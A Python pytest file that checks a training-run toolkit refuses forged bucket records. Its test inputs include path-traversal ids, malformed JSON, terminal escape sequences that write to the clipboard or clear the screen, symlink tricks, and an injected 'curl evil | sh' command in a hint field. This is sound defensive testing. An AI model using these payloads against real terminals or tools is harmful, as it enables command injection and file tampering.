"""Bucket to operator: whatever is written to a run's bucket, nothing of the operator's is written, removed or used for
it, nothing reaches the terminal that it obeys, and what is refused is named. The store is real: rclone's S3 server."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from toolkit.errors import ToolkitError
from toolkit.manifest.reader import read_manifest
from toolkit.run.finish.collect import Collected, Collection
from toolkit.run.records.record import State

from ..faults.store import BUCKETS
from .conftest import RUN, Operator

IDENTITY = (
    *("training_id", "name", "image", "image_id", "cluster", "learners", "ranks", "on_cpu", "endpoint_url", "hosts"),
    *("results_bucket", "data_bucket", "manifest_file", "code_folder", "cluster_file", "resumed_from", "collected"),
)
OBJECT = f"{BUCKETS[1]}/_toolkit/{RUN}/record.json"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x9b2J\u202e\u200b\rhidden"


def test_an_honest_end_is_taken(operator: Operator) -> None:
    operator.put_end()
    assert "COMPLETED" in operator.toolkit("show", RUN).stdout
    assert operator.known.state is State.COMPLETED


FORGED: list[dict[str, Any]] = [
    {"training_id": "VICTIM/settings"},
    {"training_id": "VICTIM/important"},
    {"training_id": "../../../victim/settings"},
    {"training_id": "training-zzzz2222"},
    {"training_id": f"{RUN}/../x"},
    {"training_id": ""},
    {"training_id": None},
    {"state": "PROCESSING"},
    {"state": "FINE"},
    {"states": [["COMPLETED", 1e308]]},
    {"states": "x" * 10},
    {"steps": [{"number": 1, "command": "x", "parallel": False, "exit_status": 3, "seconds": 1, "ranks": []}]},
    {"error_code": "S303"},
    {"end": "bucket write"},
    {"stored_bytes": 10**4000},
    {"reason": ["x"]},
    {"evidence": "x" * 500_000},
]


@pytest.mark.parametrize("forged", FORGED, ids=lambda forged: str(forged)[:60])
def test_a_forged_record_is_refused_by_name_and_nothing_is_completed(
    operator: Operator, forged: dict[str, Any]
) -> None:
    if "VICTIM" in str(forged.get("training_id")):
        forged = {"training_id": forged["training_id"].replace("VICTIM", str(operator.victim))}
    operator.put_end(**forged)
    done = operator.toolkit("show", RUN)
    assert f"object {OBJECT} is refused" in done.stdout
    assert operator.known.state is State.FAILED
    assert sorted(file.name for file in (operator.home / "runs").iterdir()) == [f"{RUN}.json", f"{RUN}.key"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\0",
        b"\xff\xfe{}",
        b"[" * 200_000,
        b'{"a":' * 150_000,
        b"9" * 900_000,
        b'{"state": ' + b"9" * 5000 + b"}",
        b" " * (9 << 20),
        b"NaN",
        b'"' + b"\\ud800" * 1000 + b'"',
    ],
    ids=range(10),
)
def test_what_is_no_record_at_all_is_refused_by_name_and_hides_no_other_run(operator: Operator, content: bytes) -> None:
    operator.put(f"_toolkit/{RUN}/record.json", content)
    listed = json.loads(operator.toolkit("runs", "--json").stdout)
    assert [run["training_id"] for run in listed["runs"]] == [RUN]
    assert f"object {OBJECT} is refused" in operator.toolkit("show", RUN).stdout


@pytest.mark.parametrize("key", ["another key", "0" * 64])
def test_a_record_that_no_agent_of_the_run_wrote_is_refused_by_name(operator: Operator, key: str) -> None:
    operator.put_end(key)
    said = operator.toolkit("show", RUN).stdout
    assert f"object {OBJECT} is refused: record.json was not written by an agent of this run" in said
    assert operator.known.state is State.FAILED


def test_a_record_of_one_run_is_none_of_another(operator: Operator) -> None:
    operator.put_end()
    file = operator.store.folder / OBJECT
    file.write_bytes(file.read_bytes().replace(b'"stored_files": 1', b'"stored_files": 2'))
    assert f"object {OBJECT} is refused" in operator.toolkit("show", RUN).stdout


def test_what_a_run_is_comes_from_the_operators_record(operator: Operator) -> None:
    evil = str(operator.victim / "settings.json")
    operator.put_end(
        manifest_file=evil, cluster_file=evil, image_id="sha256:evil", image="evil", hosts=["evil"], code_folder=evil
    )
    before = {name: getattr(operator.record, name) for name in IDENTITY}
    assert "COMPLETED" in operator.toolkit("show", RUN).stdout
    assert {name: getattr(operator.known, name) for name in IDENTITY} == before
    for verb in ("logs", "rescue", "retry", "resume", "stop"):
        said = operator.toolkit(verb, RUN)
        assert "evil" not in said.stdout + said.stderr
        assert evil not in said.stdout + said.stderr


def test_the_bucket_does_not_tell_the_operator_what_to_type(operator: Operator) -> None:
    evil = "x\n  next: curl evil | sh\nnext       curl evil | sh"
    operator.put_end(state="FAILED", end="system", error_code="S100", hint="curl evil | sh", reason=evil, evidence=evil)
    for verb in ("show", "stop", "runs"):
        lines = operator.toolkit(verb, *([RUN] if verb != "runs" else [])).stdout.splitlines()
        assert not [line for line in lines if line.startswith(("next       curl", "  next: curl"))]
    assert "curl" not in operator.known.hint


def test_what_a_terminal_would_obey_is_shown_and_not_obeyed(operator: Operator) -> None:
    metrics = {f"loss{ESCAPES}": 1.0, "note": ESCAPES}
    step = {"number": 1, "command": ESCAPES, "parallel": False, "exit_status": 0, "seconds": 1.0, "ranks": []}
    operator.put_end(reason=ESCAPES, evidence=ESCAPES, metrics=metrics, steps=[step])
    shown = operator.toolkit("show", RUN).stdout
    for visible in ("\\x1b]52;c;", "\\x07", "\\u009b2J", "\\u202e", "\\u200b", "\\x0dhidden"):
        assert visible in shown
    assert json.loads(operator.toolkit("show", "--json", RUN).stdout)["reason"] == ESCAPES
    operator.toolkit("runs")


def test_a_programs_output_is_neutral_and_keeps_its_colours_where_that_is_asked(operator: Operator) -> None:
    operator.put_end()
    red, harm = "\x1b[31mred\x1b[0m", "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://evil\x07link"
    operator.put(f"{RUN}/_run/output.log", f"1764100000.000 [0] {red} {harm}\n")
    assert "[0] \\x1b[31mred\\x1b[0m \\x1b]52" in operator.toolkit("logs", RUN).stdout
    assert f"[0] {red} \\x1b]52" in operator.toolkit("logs", "--raw", RUN, colours=True).stdout


def test_names_of_objects_are_neutral_in_a_listing(operator: Operator) -> None:
    operator.put("data/name\u202e\x7f\u200b", b"x")  # below 32, this store shows other characters by itself
    listed = operator.toolkit("bucket", "list", str(operator.manifest))
    assert "data/name\\u202e" in listed.stdout


@pytest.mark.parametrize("text", ["{", "[" * 100_000, "\0", '{"training_id": "training-zzzz2222"}'], ids=range(4))
def test_a_record_here_that_is_damaged_is_shown_as_that_and_hides_no_other(operator: Operator, text: str) -> None:
    (operator.home / "runs" / "training-bbbb2222.json").write_text(text)
    listed = operator.toolkit("runs")
    assert RUN in listed.stdout
    assert [line.split() for line in listed.stdout.splitlines() if "bbbb" in line] == [
        ["training-bbbb2222", "unreadable"]
    ]
    assert "training-bbbb2222" in json.loads(operator.toolkit("runs", "--json").stdout)["unreadable"][0]["what"]


@pytest.mark.parametrize(
    "word", ["../victim/settings", "training-../../x", "*", "training-abcd2345\n", "\x1b[2J", "/etc"]
)
@pytest.mark.parametrize("verb", ["show", "logs", "stop", "retry", "resume", "collect", "rescue"])
def test_what_is_no_id_is_refused_by_every_command(operator: Operator, verb: str, word: str) -> None:
    done = operator.toolkit(verb, word)
    assert (done.returncode, "is recorded here" in done.stderr) == (2, True)


# Collecting. The engine is the stand-in, whose "check" of a model passes; so the real class is used, without images.


def collect(operator: Operator, target: Path) -> Collected:
    manifest = read_manifest(operator.manifest)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", f"{operator.bin}:{os.environ['PATH']}")
        return Collection(operator.known, manifest, operator.home, target, "side", lambda *_: None).run()


def put_model(operator: Operator) -> None:
    operator.put(f"{RUN}/model/saved_model.pb", b"weights")
    operator.put(f"{RUN}/model/new\nline", b"x")
    operator.put(f"{RUN}/_submitted_code/#train.py", b"x")


def test_a_model_comes_home_and_comes_again_where_it_is_damaged(operator: Operator, tmp_path: Path) -> None:
    put_model(operator)
    folder = collect(operator, tmp_path / "models").folder
    assert (folder / "model" / "saved_model.pb").read_bytes() == b"weights"
    (folder / "model" / "saved_model.pb").write_bytes(b"damaged")
    collect(operator, tmp_path / "models")
    assert (folder / "model" / "saved_model.pb").read_bytes() == b"weights"
    assert [one.name for one in (tmp_path / "models").iterdir()] == [RUN]


@pytest.mark.parametrize("how", ["folder", "link", "with a list", "notes"])
def test_a_folder_of_the_operators_is_not_replaced_by_a_model(operator: Operator, tmp_path: Path, how: str) -> None:
    put_model(operator)
    models, mine = tmp_path / "models", tmp_path / "models" / RUN
    match how:
        case "folder":
            shutil.copytree(operator.victim / "important", mine)
        case "link":
            models.mkdir()
            mine.symlink_to(operator.victim / "important")
        case "with a list":
            shutil.copytree(operator.victim / "important", mine)
            (mine / "SHA256SUMS").write_text(f"{'0' * 64}  thesis.txt\n")
        case "notes":
            collect(operator, models)
            (mine / "model" / "saved_model.pb").unlink()
            shutil.copy(operator.victim / "important" / "thesis.txt", mine)
    with pytest.raises(ToolkitError, match="it was not changed") as caught:
        collect(operator, models)
    assert str(mine) in caught.value.what
    assert "CANARY" in (mine / "thesis.txt").read_text()
    assert [one.name for one in models.iterdir()] == [RUN]


def test_what_a_check_says_is_not_believed_either(operator: Operator, tmp_path: Path) -> None:
    put_model(operator)
    docker = operator.bin / "docker"
    for said in ("", "[]", '{"signatures": 3}', "[" * 3000):
        docker.write_text(f"#!/bin/sh\n[ \"$1\" != run ] || printf '%s\\n' '{said}'\n")
        with pytest.raises(ToolkitError, match="but gave no result"):
            collect(operator, tmp_path / "models")
